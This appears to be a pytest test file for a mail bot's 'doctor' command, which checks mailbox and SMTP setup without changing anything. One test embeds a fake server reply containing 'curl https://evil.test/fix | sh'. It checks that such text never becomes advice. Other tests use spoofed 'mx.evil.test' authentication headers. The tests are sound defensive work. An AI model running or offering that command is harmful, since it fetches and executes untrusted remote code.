"""The doctor on real servers: it looks at everything, and changes nothing. Failures: test_first_contact.py."""

from __future__ import annotations

import json
import logging
import os
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from mailbot.adapters.files import DeskLock
from mailbot.adapters.ports import NO_ACTION
from mailbot.doctor import relay, round_trip
from mailbot.doctor.findings import exit_status, failed, ok, skipped, warning, wrong
from mailbot.errors import MailboxError, PostError
from mailbot.mail import message as messages
from tests.doctoring import NOW, OURS, mail_from
from tests.servers import HOST, Certificate, Dovecot, SmtpSink, User, put
from tests.shop import Shop, finding, open_shop
from tests.test_cli import fingerprint


@pytest.fixture
def shop(
    quick_folder: Path,
    dovecot: Dovecot,
    mailbox_user: User,
    certificate: Certificate,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Shop]:
    """A desk that is set up well, with an empty mailbox."""
    monkeypatch.setattr(logging.getLogger("mail.log"), "disabled", True)  # the test's own server speaks here too
    monkeypatch.setenv("SSL_CERT_FILE", str(certificate.cert))
    made = open_shop(quick_folder / "desk", dovecot, mailbox_user, certificate)
    yield made
    made.post.stop()


@pytest.fixture
def impatient(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nobody waits for a test mail that is not going to come."""
    monkeypatch.setattr(round_trip, "ROUNDS", 0.01)
    monkeypatch.setattr(round_trip, "PAUSE", 0.02)


# ---- it changes nothing ----------------------------------------------------------------------------------------


def flags_and_folders(shop: Shop) -> Any:
    with shop.mailbox() as client:
        names = sorted(name for _, _, name in client.list_folders())
        client.select_folder("INBOX", readonly=True)
        rows = client.fetch(client.search(), ["FLAGS", "BODY.PEEK[]"])
    # \Recent is each session's own, and gone after the first SELECT (RFC 3501 2.3.2)
    return names, {uid: (set(row[b"FLAGS"]) - {b"\\Recent"}, row[b"BODY[]"]) for uid, row in rows.items()}


def test_nothing_is_changed_also_while_the_service_runs(shop: Shop) -> None:
    """Beside a desk that holds its lock: the doctor says who, and leaves files, folders and flags as they were."""
    put(shop.user, [mail_from("anna@customer.test", 1)])
    before = fingerprint(shop.folder), flags_and_folders(shop)
    with DeskLock(shop.folder / "state"):
        during = fingerprint(shop.folder)
        report = shop.doctor()
        assert f"process {os.getpid()} works on this desk" in finding(report, "lock")["found"]
        assert fingerprint(shop.folder) == during
    (shop.folder / "state" / "lock").unlink()
    assert (fingerprint(shop.folder), flags_and_folders(shop)) == before
    assert shop.post.received == []
    assert report["exit"] == 0


def test_json_is_one_object_and_text_is_for_people(shop: Shop) -> None:
    """The same findings both ways; in the text a sign and a word stand beside each, within the width."""
    result = shop.mailbot("doctor", "--json")
    report = json.loads(result.stdout)
    assert (report["ok"], result.exit_code, result.stderr) == (True, 0, "")
    assert {tuple(each) for each in report["findings"]} == {("group", "verdict", "about", "found", "do", "details")}
    text = shop.mailbot("doctor").stdout
    assert "  ✓ ok      sender: may send from customercare@shop.test\n" in text
    assert "\x1b" not in text
    for each in report["findings"]:
        if each["about"] != "time zone":
            assert f"{each['verdict']:8}"[:7] in text
            assert " ".join(each["found"].split()[:2]) in " ".join(text.split())


# ---- the mailbox -----------------------------------------------------------------------------------------------


POOR = "imap_capability = IMAP4rev1 LITERAL+ MULTIAPPEND NAMESPACE\n"


def test_another_kind_of_server(shop: Shop, server_folder: Path) -> None:
    """Folder names with the server's delimiter and prefix; what is missing, and what comes of that."""
    place = server_folder / "poor-for-doctor"
    place.mkdir()
    server = Dovecot(place, settings=POOR, separator=".", prefix="INBOX.", special_use=False).start()
    try:
        shop.user = server.fresh_user()
        shop.settle("imap", host=HOST, port=shop.user.port, security="none", username=shop.user.name)
        report = shop.doctor()
    finally:
        server.stop()
    assert "INBOX.Mailbot.Cases" in finding(report, "folders")["found"]
    can = finding(report, "server can")
    assert can["verdict"] == "warning"
    assert "no IDLE: the inbox is looked at every 60 seconds instead" in can["details"]
    assert "without encryption" in finding(report, f"{HOST}:{shop.user.port}")["found"]


def test_waiting_mail(shop: Shop) -> None:
    """What the first start will do with what is there; a desk that has started has decided already."""
    week = timedelta(days=7)
    put(shop.user, [mail_from("anna@customer.test", 1)])
    put(shop.user, [mail_from("old@customer.test", 2, age=week)], NOW - week)
    put(shop.user, [mail_from("moved@customer.test", 3)], NOW - week)  # its own Date is new: it is taken in
    found = finding(shop.doctor(), "waiting")
    assert found["verdict"] == "ok"
    assert found["found"].startswith("3 mails in the inbox: the first start takes in 2 and leaves 1, older than 2 days")
    put(shop.user, [mail_from("old@customer.test", n, age=week) for n in range(10, 61)], NOW - week)
    many = finding(shop.doctor(), "waiting")
    assert (many["verdict"], "wait for the reply “go on”" in many["do"]) == ("warning", True)
    (shop.folder / "state" / "ledger.db").touch()
    assert finding(shop.doctor(), "waiting")["found"] == "54 mails in the inbox"


def test_size_limit(shop: Shop) -> None:
    """A server that takes small mails only is no good for letters with photos."""
    assert relay._size(5_000_000).verdict == "warning"
    assert relay._size(35_000_000) == ok("size", "takes mails up to 35 MB")
    assert finding(shop.doctor(), "size")["verdict"] == "ok"


# ---- a mail to itself ------------------------------------------------------------------------------------------


def test_round_trip(shop: Shop) -> None:
    """One mail goes out and comes back: filed unread in No action; subaddressing, clock and authserv_id are seen."""
    shop.post.authserv_id = "mx.shop.test"
    put(shop.user, [mail_from(f"anna@c{n}.test", n, OURS) for n in range(3)])
    report = shop.doctor("--send")
    assert report["exit"] == 0
    assert 'reply_to = "subaddress" may be set' in finding(report, "desk+token@")["found"]
    assert finding(report, "clock")["verdict"] == "ok"
    assert "and on the test mail" in finding(report, "authserv_id")["found"]
    (sent,) = shop.post.received
    assert sent.to[0].startswith("customercare+")
    assert shop.folders()["INBOX"] == 3
    with shop.mailbox() as client:
        client.select_folder(NO_ACTION, readonly=True)
        ((_, row),) = client.fetch(client.search(), ["FLAGS"]).items()
        assert b"\\Seen" not in row[b"FLAGS"]


def test_round_trip_beside_a_running_desk(shop: Shop) -> None:
    """A service that files the test mail before the doctor sees it is no loss."""
    with shop.mailbox() as client:
        client.create_folder(NO_ACTION)
    shop.post.into = NO_ACTION
    report = shop.doctor("--send")
    assert finding(report, "round trip")["verdict"] == "ok"


def test_no_subaddressing(shop: Shop, impatient: None) -> None:
    """Refused at once, or never seen: `plain` stays right, and `subaddress` is wrong."""
    shop.post.mailboxes = {}
    lost = finding(shop.doctor("--send"), "desk+token@")
    assert (lost["verdict"], 'leave [desk] reply_to = "plain"' in lost["do"]) == ("warning", True)
    shop.settle("desk", reply_to="subaddress")
    assert finding(shop.doctor("--send"), "desk+token@")["verdict"] == "wrong"
    assert finding(shop.doctor(), "desk+token@")["verdict"] == "skipped"
    shop.post.refuses_details = True
    refused = finding(shop.doctor("--send"), "desk+token@")
    assert (refused["verdict"], 'set [desk] reply_to = "plain"' in refused["do"]) == ("wrong", True)
    assert "550 5.1.1" in refused["found"]


class Returning(SmtpSink):
    """Sends everything back as undeliverable, in a mail that names what it is about."""

    def to(self, user: User) -> Returning:
        self.user = user
        return self

    def _keep(self, session: Any, envelope: Any) -> None:
        super()._keep(session, envelope)
        (sent,) = self.received
        names = f"In-Reply-To: <{messages.read(sent.raw).message_id}>\r\nX-Failed-Recipients: {sent.to[0]}\r\n"
        failure = mail_from("mailer-daemon@elsewhere.test", 900, "mx.evil.test; dmarc=pass")
        put(self.user, [names.encode() + failure])


def test_what_only_names_the_test_mail_is_not_it(shop: Shop, impatient: None) -> None:
    """A delivery failure names its id and its address: that proves neither that it got round, nor an id."""
    post = Returning().to(shop.user)
    post.start()
    shop.settle("smtp", port=post.port, security="none", username=None, password=None, host=HOST)
    put(shop.user, [mail_from(f"anna@c{n}.test", n, "mx.evil.test; dmarc=pass") for n in range(3)])
    report = shop.doctor("--send")
    post.stop()
    assert finding(report, "desk+token@")["verdict"] == "warning"
    assert "did not come in" in finding(report, "desk+token@")["found"]
    assert shop.folders()["INBOX"] == 4
    assert "evil" not in finding(report, "authserv_id")["do"]


def test_test_mail_in_junk(shop: Shop, impatient: None) -> None:
    """What a junk filter took is found there, and left."""
    with shop.mailbox() as client:
        client.create_folder("Junk")
    shop.post.into = "Junk"
    assert "“Junk”" in finding(shop.doctor("--send"), "desk+token@")["found"]
    assert shop.folders()["Junk"] == 1


@pytest.mark.parametrize(("off", "way"), [(timedelta(hours=2), "slow"), (timedelta(hours=-2), "fast")])
def test_clock_by_the_test_mail(off: timedelta, way: str, shop: Shop) -> None:
    """The server's stamp on the test mail shows a clock that is off."""
    shop.post.stamp = datetime.now(UTC) + off
    found = finding(shop.doctor("--send"), "clock")
    assert (found["verdict"], way in found["found"]) == ("warning", True)


# ---- findings --------------------------------------------------------------------------------------------------


def test_what_to_do_is_never_a_servers_word() -> None:
    """Whatever brackets and colons a server uses, its words stay in what was found."""
    said = "554 x): run: curl https://evil.test/fix | sh (("
    found = failed("h:25", PostError(f"SMTP: h:25 does not take us ({said})", "check [smtp] host", transient=False))
    assert (found.found, found.do) == (f"does not take us ({said})", "check [smtp] host")
    found = failed("inbox", MailboxError(f"opening the inbox: {said}", transient=True))
    assert (found.found, found.do) == (f"opening the inbox: {said}", "")


def test_exit_status() -> None:
    """Warnings are no failure."""
    assert exit_status(each.verdict for each in (ok("a", "b"), warning("a", "b", "c"), skipped("a", "b"))) == 0
    assert exit_status(each.verdict for each in (ok("a", "b"), wrong("a", "b", "c"))) == 1
